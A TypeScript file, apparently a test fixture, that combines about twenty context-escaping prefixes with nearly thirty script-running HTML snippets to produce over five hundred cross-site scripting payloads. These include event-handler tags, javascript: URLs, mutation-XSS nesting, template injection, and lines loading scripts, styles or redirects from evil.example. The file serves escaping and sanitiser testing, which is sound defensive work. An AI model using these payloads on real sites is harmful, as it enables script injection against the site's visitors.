/** Markup and scripts that a page must show as text, and what an HTML page contains that could run. */

const CALL = ["alert", "(1)"].join("")
const SCHEME = ["java", "script:"].join("")

/** Ways out of the text or attribute that a value stands in. */
const ESCAPES: ReadonlyArray<string> = [
  "",
  '"',
  "'",
  "`",
  '">',
  "'>",
  "-->",
  "--!>",
  "]]>",
  "</title>",
  "</script>",
  "</style>",
  "</textarea>",
  "</noscript>",
  "</kapitel-island>",
  "\\u003c/script>",
  "\u2028",
  "\u2029\n",
  "{{",
  "${",
]

/** Markup that runs a script by itself, once it is read as markup. */
const RUNS: ReadonlyArray<string> = [
  `<script>${CALL}</script>`,
  `<ScRiPt/x>${CALL}</sCrIpT>`,
  `<script src=//evil.example></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src=x\tonerror\n=${CALL}//`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,x">`,
  `<math><mtext><mglyph><style><!--</style><img title="--><img src onerror=${CALL}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<iframe src=${SCHEME}${CALL}>`,
  `<a href=${SCHEME}${CALL}>x</a>`,
  `<form action=${SCHEME}${CALL}><button>`,
  `<button formaction=${SCHEME}${CALL}>`,
  `<object data=${SCHEME}${CALL}>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example>`,
  `<style>@import'//evil.example'</style>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<template shadowrootmode=open><script>${CALL}</script></template>`,
  ` onmouseover=${CALL} x=`,
  ` autofocus onfocus=${CALL} x="`,
  `${SCHEME}${CALL}`,
  `7*7}}{{constructor.constructor('${CALL}')()}}`,
]

/** Each way out before each of them: more than five hundred. */
export const HOSTILE_MARKUP: ReadonlyArray<string> = ESCAPES.flatMap((escape) => RUNS.map((run) => escape + run))
